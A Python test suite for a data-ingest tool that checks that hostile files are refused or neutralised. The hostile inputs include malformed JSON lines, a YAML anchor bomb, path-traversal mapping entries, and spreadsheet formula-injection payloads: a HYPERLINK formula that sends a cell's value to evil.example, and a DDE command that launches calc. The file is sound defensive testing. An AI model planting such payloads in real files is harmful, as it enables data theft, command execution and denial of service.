"""Hostile files and lines at the ingest (issue 10 #7 and #16, issue 11 #3): each bad line is
one BadRow naming its line and field, the job goes on with the rest under --rejects, nothing
is half-written; mappings, workbooks and CSV files are bounded before they are expanded."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from tests.conftest import MAPPING, ROWS, write_csv

from cruce import Node
from cruce.errors import BadRow, InvalidInput, InvalidMapping
from cruce.ingest._source import MAX_COLUMNS
from cruce.store import RecordQuery

MB = 1024 * 1024
ENVELOPE = {"dataset": "cases", "purpose": "border_security", "handling_code": "H1",
            "tlp": "AMBER", "source_reliability": "A", "information_accuracy": "1",
            "retain_until": "2031-12-31"}
GOOD = b'{"id": "fine-1", "schema": "Person", "properties": {"name": ["Eva Mejia"]}}'


def entity(**fields: object) -> bytes:
    base: dict[str, object] = {"id": "b-1", "schema": "Person", "properties": {"name": ["Ana"]}}
    return json.dumps({**base, **fields}).encode()


# (line, the field its BadRow names). Each gave a 500 over the API, or was stored as garbage.
BAD_LINES: dict[str, tuple[bytes, str]] = {
    "invalid UTF-8": (b'{"id": "b-1", "schema": "Person", "properties": {"name": ["\xff\xfe"]}}',
                      "(line)"),
    "nesting 100k deep": (b'{"id": "b-1", "properties": ' + b"[" * 100_000 + b"]" * 100_000
                          + b"}", "(line)"),
    "a line of 2 MB": (b'{"id": "b-1", "x": "' + b"a" * (2 * MB) + b'"}', "(line)"),
    "an integer of 5,000 digits": (b'{"id": "b-1", "n": ' + b"9" * 5000 + b"}", "(line)"),
    "a number as a property value": (entity(properties={"name": [42]}), "properties.name"),
    "a bool as a property value": (entity(properties={"name": [True]}), "properties.name"),
    "null as a property value": (entity(properties={"name": [None]}), "properties.name"),
    "a nested list as a property value": (entity(properties={"name": [["a"]]}), "properties.name"),
    "an object as a property value": (entity(properties={"name": [{"a": 1}]}), "properties.name"),
    "a property that is no list": (entity(properties={"name": "Ana"}), "properties.name"),
    "properties that are a list": (entity(properties=[["name", "Ana"]]), "properties"),
    "a lone surrogate": (b'{"id": "b-1", "schema": "Person", "properties": {"name": ["\\ud800"]}}',
                         "properties.name"),
    "a NUL character": (entity(properties={"name": ["A\x00na"]}), "properties.name"),
    "a 400-character name": (entity(properties={"name": ["x" * 400]}), "properties.name"),
    "handling_restriction of the wrong type": (
        entity(envelope={"handling_code": "H3", "handling_restriction": ["a", 1]}),
        "envelope.handling_restriction"),
    "a lone surrogate in a restriction": (
        b'{"id": "b-1", "schema": "Person", "envelope": {"handling_code": "H3", '
        b'"handling_restriction": "\\udfff"}}', "envelope.handling_restriction"),
    "is_shareable as text": (entity(envelope={"is_shareable": "yes"}), "envelope.is_shareable"),
    "an envelope that is a list": (entity(envelope=[1, 2]), "envelope"),
    "an envelope that is text": (entity(envelope="H0"), "envelope"),
    "an unknown envelope field": (entity(envelope={"tpl": "RED"}), "envelope.tpl"),
    "an agency that is a list": (entity(envelope={"agency": ["us_border"]}), "envelope.agency"),
    "an id that is a list": (entity(id=["a", "b"]), "id"),
    "an id that is a number": (entity(id=7), "id"),
    "an empty id": (entity(id=""), "id"),
    "an id with a slash": (entity(id="hn/../1"), "id"),
    "an id of 65 characters": (entity(id="a" * 65), "id"),
    "an id of 100,000 characters": (entity(id="a" * 100_000), "id"),
    "the abstract schema Thing": (entity(schema="Thing"), "schema"),
    "a schema that is a list": (entity(schema=["Person"]), "schema"),
    "a line that is a list": (b'["Person"]', "entity"),
    "a reference that is no id": (
        json.dumps({"id": "m-1", "schema": "Membership",
                    "properties": {"member": ["a b"], "organization": ["o-1"]}}).encode(),
        "properties.member"),
}


@pytest.fixture()
def node(tmp_path: Path) -> Iterator[Node]:
    with Node.open(tmp_path / "n.duckdb", agency="us_border") as opened:
        yield opened


@pytest.mark.parametrize("what", sorted(BAD_LINES))
def test_a_bad_line_is_one_bad_row_naming_line_and_field(
    node: Node, tmp_path: Path, what: str,
) -> None:
    line, field = BAD_LINES[what]
    path = tmp_path / "upload.jsonl"
    path.write_bytes(GOOD + b"\n" + line + b"\n")
    with pytest.raises(BadRow) as err:
        node.ingest(path, envelope=ENVELOPE)
    assert (err.value.line, err.value.column) == (2, field), err.value.message
    assert len(err.value.message) < 300, "the bad value is never echoed whole"
    assert node.store.count() == 0


@pytest.mark.parametrize("what", sorted(BAD_LINES))
def test_with_rejects_a_bad_line_does_not_sink_the_job(
    node: Node, tmp_path: Path, what: str,
) -> None:
    line, field = BAD_LINES[what]
    path = tmp_path / "upload.jsonl"
    path.write_bytes(GOOD + b"\n" + line + b"\n" + GOOD.replace(b"fine-1", b"fine-2") + b"\n")
    rejects = tmp_path / "rejects.csv"
    result = node.ingest(path, envelope=ENVELOPE, rejects=rejects)
    assert (result.inserted, result.rejected) == (2, 1)
    assert sorted(r[0] for r in node.store._select(RecordQuery())) == ["fine-1", "fine-2"]
    rows = list(csv.reader(rejects.open(newline="", encoding="utf-8")))
    assert [r[:2] for r in rows[1:]] == [["2", field]]


# -- mappings: bounded before they are built ----------------------------------------------------

LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (LAUGHS, "line 1: YAML anchors and aliases (&, *) are not allowed in a mapping; write the values out"),
        (MAPPING.replace("      tlp: AMBER\n", "      tlp: &t AMBER\n      x: *t\n"),
         "line 7: YAML anchors and aliases (&, *) are not allowed in a mapping; write the values out"),
        ("x: " + "[" * 10_000 + "]" * 10_000 + "\n", "line 1: nests deeper than 32 levels"),
        ("# " + "x" * (2 * MB) + "\n", "a mapping file is at most 1048576 bytes"),
        ("a: [unclosed\n", "line 2: expected ',' or ']', but got '<stream end>'"),
    ],
)
def test_a_hostile_mapping_is_refused_before_it_is_expanded(
    agency_dir: Path, text: str, message: str,
) -> None:
    mapping = agency_dir / "mapping.yml"
    mapping.write_text(text, encoding="utf-8")
    assert len(LAUGHS) < 700
    with Node.open(agency_dir / "n.duckdb") as node, pytest.raises(InvalidMapping) as err:
        node.ingest(agency_dir / "personas.csv", mapping=mapping)
    assert str(err.value) == f"{mapping}: {message}"


# -- input paths: confined to the mapping's folder ----------------------------------------------

@pytest.fixture()
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret" / "personas.csv"
    path.parent.mkdir()
    write_csv(path, ROWS)
    path.chmod(0o600)
    return path


@pytest.mark.parametrize("how", ["absolute", "dot-dot", "symlink"])
def test_a_mapping_cannot_name_a_file_outside_its_folder(
    agency_dir: Path, secret: Path, how: str,
) -> None:
    url = {"absolute": str(secret), "dot-dot": "../secret/personas.csv", "symlink": "link.csv"}[how]
    (agency_dir / "link.csv").symlink_to(secret)
    mapping = agency_dir / "mapping.yml"
    mapping.write_text(MAPPING.replace("csv_url: personas.csv", f"csv_url: {url}"))
    with Node.open(agency_dir / "n.duckdb") as node:
        with pytest.raises(InvalidMapping) as err:
            node.sources_of(mapping)
        assert node.store.count() == 0
    assert str(err.value) == (
        f"{mapping}: dataset 'hn_police_personas', query 0: {url!r} is outside the mapping's "
        "folder; put the file beside the mapping, or give it on the command line "
        "(cruce ingest FILE --mapping ...)")


def test_a_file_given_on_the_command_line_may_lie_anywhere(agency_dir: Path, secret: Path) -> None:
    with Node.open(agency_dir / "n.duckdb") as node:
        result = node.ingest(secret, mapping=agency_dir / "mapping.yml")
    assert result.rows == len(ROWS)


def test_a_symlink_inside_the_folder_to_a_file_inside_it_is_read(agency_dir: Path) -> None:
    (agency_dir / "latest.csv").symlink_to(agency_dir / "personas.csv")
    mapping = agency_dir / "mapping.yml"
    mapping.write_text(MAPPING.replace("csv_url: personas.csv", "csv_url: latest.csv"))
    with Node.open(agency_dir / "n.duckdb") as node:
        assert [src.name for _, src in node.sources_of(mapping)] == ["personas.csv"]


# -- workbooks and CSV files: bounded while they are read ---------------------------------------

def test_a_workbook_of_16384_columns_is_refused_without_padding_every_row(agency_dir: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append([f"c{i}" for i in range(16_384)])
    for i in range(200):
        sheet.append([f"v{i}"])
    book.save(agency_dir / "personas.xlsx")
    with Node.open(agency_dir / "n.duckdb") as node, pytest.raises(InvalidInput) as err:
        node.ingest(agency_dir / "personas.xlsx", mapping=agency_dir / "mapping.yml")
    assert str(err.value) == (f"{agency_dir / 'personas.xlsx'}: has 16384 columns; cruce reads "
                              f"at most {MAX_COLUMNS}")


def test_a_workbook_keeps_only_the_columns_its_mapping_uses(agency_dir: Path) -> None:
    book = Workbook()
    sheet = book.active
    rows = list(csv.reader((agency_dir / "personas.csv").open()))
    sheet.append(rows[0])
    for row in rows[1:]:
        sheet.append(row)
    sheet.cell(row=2, column=5000, value="far off")  # the sheet's dimension claims 5,000 columns
    book.save(agency_dir / "personas.xlsx")
    with Node.open(agency_dir / "n.duckdb") as node:
        result = node.ingest(agency_dir / "personas.xlsx", mapping=agency_dir / "mapping.yml")
    assert result.rows == len(ROWS)


def test_a_single_line_csv_of_2_mb_is_one_line_that_echoes_nothing(agency_dir: Path) -> None:
    path = agency_dir / "personas.csv"
    path.write_text("id_persona," + "A" * (2 * MB) + "\n")
    with Node.open(agency_dir / "n.duckdb") as node, pytest.raises(BadRow) as err:
        node.ingest(path, mapping=agency_dir / "mapping.yml")
    assert str(err.value) == (f"{path}, line 1, column '(line)': is longer than 1048576 "
                              "characters; is this a CSV file?")


def test_a_csv_with_a_nul_byte_is_refused_naming_its_line(agency_dir: Path) -> None:
    path = write_csv(agency_dir / "personas.csv", [*ROWS[:2], ROWS[2].replace("CRUZ", "CR\x00UZ")])
    with Node.open(agency_dir / "n.duckdb") as node, pytest.raises(BadRow) as err:
        node.ingest(path, mapping=agency_dir / "mapping.yml")
    assert (err.value.line, err.value.column) == (4, "(line)")


# -- the rejects file: formulas neutralised -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
            "+SUM(1,1)", "@SUM(1)", "-2+3"]


def test_formulas_in_a_bad_row_are_neutralised_in_the_rejects(agency_dir: Path, tmp_path: Path) -> None:
    bad = [f'HN-{9 + i},"{f.replace(chr(34), chr(34) * 2)}",31/02/1990,,TESTIGO,,,Honduras,F,'
           for i, f in enumerate(FORMULAS)]
    path = write_csv(agency_dir / "personas.csv", [*ROWS, *bad])
    rejects = tmp_path / "rejects.csv"
    with Node.open(agency_dir / "n.duckdb") as node:
        result = node.ingest(path, mapping=agency_dir / "mapping.yml", rejects=rejects)
    assert result.rejected == len(FORMULAS)
    rows = list(csv.reader(rejects.open(newline="")))
    names = [row[rows[0].index("nombre_completo")] for row in rows[1:]]
    assert names == ["'" + f for f in FORMULAS]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# -- property: whatever the lines, only the documented errors and never half a file -------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner,
                                                                max_size=3),
    max_leaves=8,
)
names = st.sampled_from(["name", "birthDate", "nationality", "phone", "gender", "colour",
                         "email", "alias", "address", "Thing"])
entities = st.fixed_dictionaries(
    {"id": st.one_of(st.text(alphabet="ab-/1", min_size=0, max_size=4), json_values),
     "schema": st.sampled_from(["Person", "Thing", "Organization", "Alien"]) | json_values},
    optional={
        "properties": st.dictionaries(names, st.lists(st.text(max_size=12) | json_values,
                                                      max_size=2), max_size=3) | json_values,
        "envelope": st.fixed_dictionaries({}, optional={
            "tlp": st.sampled_from(["RED", "GREEN", "PINK"]) | json_values,
            "handling_code": st.sampled_from(["H0", "H3"]) | json_values,
            "handling_restriction": json_values,
            "subject_category": st.sampled_from(["victim", "suspect", "?"]) | json_values,
            "is_shareable": json_values, "agency": st.sampled_from(["us_border", "hn_police"]),
            "retain_until": st.sampled_from(["2031-01-01", "2001-01-01", "soon"]),
            "provenance": json_values, "created_at": json_values, "purpse": json_values,
        }) | json_values,
    },
)
lines = st.lists(
    st.one_of(entities.map(lambda e: json.dumps(e).encode()), json_values.map(
        lambda v: json.dumps(v).encode()), st.binary(max_size=40)),
    min_size=1, max_size=5,
)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=lines, keep_going=st.booleans())
def test_arbitrary_json_lines_give_only_documented_errors_and_never_half_a_file(
    tmp_path_factory: pytest.TempPathFactory, body: list[bytes], keep_going: bool,
) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    path = folder / "upload.jsonl"
    path.write_bytes(b"\n".join(line.replace(b"\n", b" ") for line in body) + b"\n")
    with Node.open(folder / "n.duckdb", agency="us_border") as node:
        try:
            result = node.ingest(path, envelope=ENVELOPE,
                                 rejects=folder / "rejects.csv" if keep_going else None)
        except (BadRow, InvalidInput):
            assert node.store.count() == 0, "a refused file leaves nothing behind"
            assert not (folder / "rejects.csv").exists()
            return
        stored = node.store.count()
        assert stored == result.inserted
        assert result.rows - result.rejected >= stored
